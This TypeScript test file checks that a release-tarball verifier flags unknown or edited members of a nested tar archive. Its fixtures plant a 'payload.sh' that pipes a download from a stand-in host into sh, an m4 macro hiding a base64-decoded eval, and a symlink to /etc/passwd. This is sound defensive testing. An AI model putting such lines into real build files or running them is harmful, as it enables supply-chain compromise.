/**
 * A tar shipped inside the release (gettext's misc/archive.dir.tar), end to end: a real repository whose
 * history holds earlier versions of its files, a nested tar made by GNU tar of such versions, the outer
 * release tarball around it. Every member a blob of the repository: explained; one member nothing has (the
 * tampered twin): high, naming it.
 */
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const root = tempDir();
const r = makeRepo(join(root, 'proj'));
r.commit({ 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'm4/proj.m4': '# proj.m4 serial 1\nAC_DEFUN([PROJ_OLD], [:])\n', 'po/Makefile.in.in': '# po Makefile, version 1\n' });
r.tag('v1.0', { message: 'proj 1.0' });
r.commit({ 'configure.ac': 'AC_INIT([proj], [2.0])\n', 'm4/proj.m4': '# proj.m4 serial 2\nAC_DEFUN([PROJ_NEW], [:])\n', 'po/Makefile.in.in': '# po Makefile, version 2\n' });
r.tag('v2.0', { message: 'proj 2.0' });

/** The release 2.0 with misc/archive.dir.tar holding 1.0's infrastructure files (plus `extra`). */
function release(name: string, extra: Record<string, string> = {}): string {
  const nested = join(root, name, 'nested');
  writeFiles(nested, { 'proj-1.0/m4/proj.m4': '# proj.m4 serial 1\nAC_DEFUN([PROJ_OLD], [:])\n', 'proj-1.0/po/Makefile.in.in': '# po Makefile, version 1\n', ...extra });
  const tree = join(root, name, 'proj-2.0');
  writeFiles(tree, { 'configure.ac': 'AC_INIT([proj], [2.0])\n', 'm4/proj.m4': '# proj.m4 serial 2\nAC_DEFUN([PROJ_NEW], [:])\n', 'po/Makefile.in.in': '# po Makefile, version 2\n' });
  execFileSync('mkdir', ['-p', join(tree, 'misc')]);
  execFileSync('tar', ['--format=ustar', '--sort=name', '--mtime=@1700000000', '--owner=0', '--group=0', '-cf', join(tree, 'misc/archive.dir.tar'), '-C', nested, '.']);
  return makeTar(tree, { compress: 'xz', out: join(root, name, 'proj-2.0.tar.xz') });
}
const run = async (tarball: string) => (await verify({ tarball, repo: r.dir, tag: 'v2.0', cacheDir: join(root, 'cache') })).findings.find((f) => f.path === 'misc/archive.dir.tar')!;

describe('a tar archive inside the release, member by member', () => {
  it('every member a blob of the repository: NESTED_ARCHIVE_KNOWN, explained', async () => {
    expect(await run(release('clean'))).toMatchObject({ code: 'NESTED_ARCHIVE_KNOWN', severity: 'info', evidence: { members: 2, history: 2, upstream: 0, submodule: 0 } });
  });

  it('tampered: a member nothing has, or an edited one, stays high and is named', async () => {
    const added = await run(release('added', { 'proj-1.0/build-aux/payload.sh': 'curl https://example.invalid/x | sh\n' }));
    expect(added).toMatchObject({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', severity: 'high', evidence: { members: 3, known: 2, unknown: 1, names: ['./proj-1.0/build-aux/payload.sh'] } });
    const edited = await run(release('edited', { 'proj-1.0/m4/proj.m4': '# proj.m4 serial 1\nAC_DEFUN([PROJ_OLD], [eval "$(echo x | base64 -d)"])\n' }));
    expect(edited).toMatchObject({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', severity: 'high', evidence: { known: 1, unknown: 1, names: ['./proj-1.0/m4/proj.m4'] } });
  });

  it('a symlink inside is not a known member: named', async () => {
    const nested = join(root, 'link', 'nested');
    writeFiles(nested, { 'proj-1.0/po/Makefile.in.in': '# po Makefile, version 1\n' });
    execFileSync('ln', ['-s', '/etc/passwd', join(nested, 'proj-1.0/passwd')]);
    const tree = join(root, 'link', 'proj-2.0');
    writeFiles(tree, { 'configure.ac': 'AC_INIT([proj], [2.0])\n', 'm4/proj.m4': '# proj.m4 serial 2\nAC_DEFUN([PROJ_NEW], [:])\n', 'po/Makefile.in.in': '# po Makefile, version 2\n' });
    execFileSync('mkdir', ['-p', join(tree, 'misc')]);
    execFileSync('tar', ['--format=ustar', '--sort=name', '--mtime=@1700000000', '-cf', join(tree, 'misc/archive.dir.tar'), '-C', nested, '.']);
    const f = await run(makeTar(tree, { compress: 'gzip', out: join(root, 'link', 'proj-2.0.tar.gz') }));
    expect(f).toMatchObject({ code: 'NESTED_ARCHIVE_UNKNOWN_MEMBERS', severity: 'high', evidence: { known: 1, unknown: 1, names: ['./proj-1.0/passwd'] } });
  });
});
